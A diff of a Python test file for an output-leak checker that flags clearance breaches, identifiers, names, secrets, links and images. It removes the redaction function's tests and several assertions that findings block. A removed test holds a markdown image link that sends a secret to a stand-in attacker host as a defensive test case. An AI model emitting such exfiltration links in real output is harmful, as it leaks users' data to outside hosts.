@@ -9,7 +9,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from avouch.protect.entity import Kind
-from avouch.protect.output import WORDS, Declared, RuleId, Source, check, released
+from avouch.protect.output import WORDS, Declared, RuleId, Source, check
 from avouch.records import Classification
 
 PUBLIC, INTERNAL, CONFIDENTIAL, RESTRICTED = Classification
@@ -27,13 +27,11 @@ def rules(
 def test_a_faithful_answer_leaves() -> None:
     text = "Anna Rossi (MRN 0012345) was given 500 mg."
     assert check(text, CONFIDENTIAL, [SOURCE], "What was given?") == []
-    assert released(text, []) == text
 
 
 def test_a_source_above_the_readers_clearance_blocks() -> None:
     findings = check("500 mg.", INTERNAL, [SOURCE], "")
-    assert [(one.rule, one.blocks) for one in findings] == [(RuleId.CLEARANCE, True)]
-    assert released("500 mg.", findings) is None
+    assert [one.rule for one in findings] == [RuleId.CLEARANCE]
 
 
 @pytest.mark.parametrize(
@@ -41,7 +39,7 @@ def test_a_source_above_the_readers_clearance_blocks() -> None:
 )
 def test_anothers_identifier_blocks(identifier: str) -> None:
     findings = check(f"Anna Rossi has {identifier}.", RESTRICTED, [SOURCE], "")
-    assert RuleId.IDENTIFIER in [one.rule for one in findings] and any(one.blocks for one in findings)
+    assert RuleId.IDENTIFIER in [one.rule for one in findings]
 
 
 def test_an_identifier_of_the_question_or_in_another_spelling_leaves() -> None:
@@ -49,17 +47,16 @@ def test_an_identifier_of_the_question_or_in_another_spelling_leaves() -> None:
     assert rules("Anna Rossi has MRN: 0012345.") == []
 
 
-def test_anothers_name_is_taken_out() -> None:
+def test_anothers_name_is_found() -> None:
     text = "The patient, Mr. Rajesh Venkataraman, was given 500 mg."
     findings = check(text, RESTRICTED, [SOURCE], "")
     assert [one.rule for one in findings] == [RuleId.NAME]
-    assert "Venkataraman" not in (released(text, findings) or "Venkataraman")
 
 
 def test_secrets_block_even_where_a_source_holds_them() -> None:
     key = "AKIA" + "Q7RTM2PXKLW4ZJ3N"
     findings = check(f"The key is {key}.", RESTRICTED, [Source(f"key {key}", INTERNAL)], "")
-    assert RuleId.SECRET in [one.rule for one in findings] and released("x", findings) is None
+    assert RuleId.SECRET in [one.rule for one in findings]
 
 
 def test_links_leave_by_the_allow_list_alone() -> None:
@@ -127,12 +124,11 @@ PARTS = st.sampled_from(
 
 @settings(max_examples=150, deadline=None)
 @given(st.lists(PARTS, max_size=9).map("".join))
-def test_nothing_is_left_to_take_out(text: str) -> None:
+def test_no_address_gets_past(text: str) -> None:
+    """However it is put together: where a browser would find the address, a rule finds it."""
     declared = Declared(hosts=frozenset({"good.example"}))
-    said = released(text, check(text, RESTRICTED, [], "", declared, []))
-    assert said is not None
-    assert check(said, RESTRICTED, [], "", declared, []) == []
-    assert not re.search(r"evil\.example(?![a-z])", re.sub(r"https://good\.example/\S*", "https", said))
+    if re.search(r"https?://evil\.example(?![a-z])", text):
+        assert check(text, RESTRICTED, [], "", declared, []) != []
 
 
 def test_images_need_leave_and_a_host() -> None:
@@ -141,13 +137,6 @@ def test_images_need_leave_and_a_host() -> None:
     assert rules(text, declared=Declared(hosts)) == [RuleId.IMAGE]
     assert rules(text, declared=Declared(hosts, images=True)) == []
     assert rules(text, declared=Declared(images=True)) == [RuleId.IMAGE]
-
-
-def test_what_is_taken_out_leaves_nothing_behind() -> None:
-    text = "Fine. ![x](https://evil.example/?d=secret) Fine \u202eagain. [a](https://evil.example)"
-    said = released(text, check(text, RESTRICTED, [SOURCE], ""))
-    assert said == "Fine. (image removed) Fine again. (link removed)"
-    assert check(said, RESTRICTED, [SOURCE], "") == []
 
 
 @pytest.mark.parametrize(
